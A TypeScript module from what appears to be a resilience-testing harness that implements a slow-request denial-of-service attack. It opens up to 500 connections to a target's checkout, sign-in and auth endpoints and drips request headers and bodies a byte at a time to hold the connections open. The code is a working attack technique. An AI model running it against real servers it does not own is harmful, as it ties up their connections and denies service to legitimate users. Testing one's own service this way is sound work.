import type { Attack } from './attack';
import { Connection, countStatuses } from './connection';

const DRIP_MS = 500;
const GIVE_UP_MS = 60_000;

const head = (path: string, type: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;
const FORM = 'application/x-www-form-urlencoded';

/** What each connection begins with; from then on, all of them send a byte now and then. */
const BEGINNINGS = [
  head('/api/checkout/quote', 'application/json', 1_000_000) + ' '.repeat(900_000),
  head('/api/checkout/quote', 'application/json', 64_000) + ' '.repeat(60_000),
  head('/api/checkout/quote', 'application/json', 1_000),
  head('/api/auth/callback/credentials', FORM, 1_000),
  head('/sign-in', FORM, 1_000),
  'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ',
];

/** Holds connections by requests that never quite arrive. */
export const drippingBodies: Attack = {
  name: 'dripping-bodies',
  summary: 'Sends request bodies and headers a byte at a time.',
  async run(target, { scale, signal }) {
    const connections = await Promise.all(
      Array.from({ length: scale === 'short' ? 10 : 500 }, async (_, at) => {
        const connection = await Connection.open(target);
        const until = Date.now() + GIVE_UP_MS;
        await connection.write(BEGINNINGS[at % BEGINNINGS.length] ?? '');
        while (!signal.aborted && Date.now() < until && connection.status === null) {
          await connection.ended(DRIP_MS, signal);
          await connection.write(' ');
        }
        connection.close();
        return connection;
      }),
    );
    const longest = Math.max(...connections.map(({ heldMs }) => heldMs));
    return `${countStatuses(connections)}; held for ${Math.round(longest / 1000)} s at most`;
  },
};
